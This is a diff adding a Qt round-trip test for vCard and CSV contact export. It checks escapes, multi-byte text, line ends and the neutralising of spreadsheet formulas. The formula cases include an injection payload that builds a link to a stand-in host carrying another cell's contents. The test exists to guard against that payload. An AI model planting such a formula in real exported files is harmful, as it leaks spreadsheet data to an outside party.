@@ -1,10 +1,16 @@
 // The one mapping from a card to the eleven columns: which number, address and name land where,
 // and that whatever finds no column is kept in Comments.
 #include "exchange/contact_mapping.h"
+#include "exchange/csv_writer.h"
+#include "exchange/vcard_writer.h"
+#include "exchange_harness.h"
 
 #include <QTest>
 
 using namespace rolvane::exchange;
+using rolvane::test::readBytes;
+using rolvane::test::Reader;
+using rolvane::test::ReadOutcome;
 using rolvane::tool::Contact;
 
 namespace {
@@ -33,6 +39,8 @@ QString text(const std::optional<std::string>& column) {
 class TstContactMapping : public QObject {
     Q_OBJECT
 private slots:
+    void writeThenReadKeepsEveryText_data();
+    void writeThenReadKeepsEveryText();
     void phones_data();
     void phones();
     void names_data();
@@ -41,6 +49,84 @@ private slots:
     void ownColumnsTakenAsTheyAre();
     void emptyCardHoldsNothing();
 };
+
+void TstContactMapping::writeThenReadKeepsEveryText_data() {
+    QTest::addColumn<QString>("format");
+    QTest::addColumn<int>("column");
+    QTest::addColumn<QStringList>("texts");
+    QTest::addColumn<QStringList>("expected"); // empty: the texts themselves
+
+    // Each escape, and each multi-byte character, lands on every position of a 75-byte fold.
+    QStringList escapes, scripts;
+    for (int k = 0; k <= 80; ++k) {
+        const QString a(k, QLatin1Char('a'));
+        escapes << a + QLatin1String("\nbbb") << a + QLatin1String(",yy")
+                << a + QLatin1String("\\z;") << a + QLatin1String(";\\");
+        scripts << a + QString::fromUtf8("田中 Ωμέγα עברית Müller 😀 ").repeated(3);
+    }
+    const QStringList crlf = {"one\r\ntwo", "\r\n", "a\r\n\r\nb"};
+    const QStringList formulas = {"=HYPERLINK(\"http://x.example/?\"&A1)",
+                                  "+49 30 1234",
+                                  "-5",
+                                  "@SUM(A1)",
+                                  "\tx",
+                                  "\rx",
+                                  "'s-Hertogenbosch",
+                                  "''",
+                                  "'"};
+    for (const char* format : {"vcf", "csv"}) {
+        const QString f = QLatin1String(format);
+        QTest::addRow("%s escapes at every fold, comments", format)
+            << f << 9 << escapes << QStringList();
+        QTest::addRow("%s escapes at every fold, address", format)
+            << f << 8 << escapes << QStringList();
+        QTest::addRow("%s scripts at every fold", format) << f << 9 << scripts << QStringList();
+        QTest::addRow("%s tel: as text", format)
+            << f << 2 << QStringList{"tel:555", "tel:+1 555"} << QStringList();
+        QTest::addRow("%s mailto: as text", format)
+            << f << 5 << QStringList{"mailto:a@b.example"} << QStringList();
+        QStringList formulasBack = formulas;
+        if (f == QLatin1String("vcf"))
+            formulasBack.replaceInStrings(QStringLiteral("\r"), QStringLiteral("\n"));
+        QTest::addRow("%s formulas", format) << f << 0 << formulas << formulasBack;
+    }
+    // vCard has no escape for CR: a line end comes back as LF (the README says so).
+    QTest::newRow("csv CR LF") << "csv" << 9 << crlf << QStringList();
+    QTest::newRow("vcf CR LF") << "vcf" << 9 << crlf << QStringList{"one\ntwo", "\n", "a\n\nb"};
+}
+
+void TstContactMapping::writeThenReadKeepsEveryText() {
+    QFETCH(QString, format);
+    QFETCH(int, column);
+    QFETCH(QStringList, texts);
+    QFETCH(QStringList, expected);
+    if (expected.isEmpty())
+        expected = texts;
+    const bool vcard = format == QLatin1String("vcf");
+    std::string file;
+    if (!vcard)
+        appendCsvHeader(file);
+    std::vector<std::string> kept(std::size_t(texts.size()));
+    for (int i = 0; i < texts.size(); ++i) {
+        RowView row;
+        kept[std::size_t(i)] = texts[i].toStdString();
+        row[std::size_t(column)] = kept[std::size_t(i)];
+        row[1] = "Last"; // a contact with a name, as the book holds them
+        vcard ? appendVCard(row, file) : appendCsvRow(row, file);
+    }
+    const ReadOutcome out =
+        readBytes(QByteArray::fromStdString(file), vcard ? Reader::VCard : Reader::Csv);
+    QVERIFY2(out.error.isEmpty(), qPrintable(out.error));
+    QCOMPARE(out.contacts.size(), std::size_t(texts.size()));
+    const QString name = QLatin1String(rolvane::kColumnNames[std::size_t(column)].data());
+    for (int i = 0; i < texts.size(); ++i)
+        QCOMPARE(rolvane::test::column(out.contacts[std::size_t(i)], name), expected[i]);
+    if (!vcard) {
+        // No cell of the file starts a formula: each such text went out behind a quote.
+        for (const char* live : {",=", ",+", ",-", ",@", "\n=", "\n+", "\n-", "\n@"})
+            QVERIFY2(file.find(live) == std::string::npos, live);
+    }
+}
 
 void TstContactMapping::phones_data() {
     QTest::addColumn<std::vector<CardValue>>("phones");
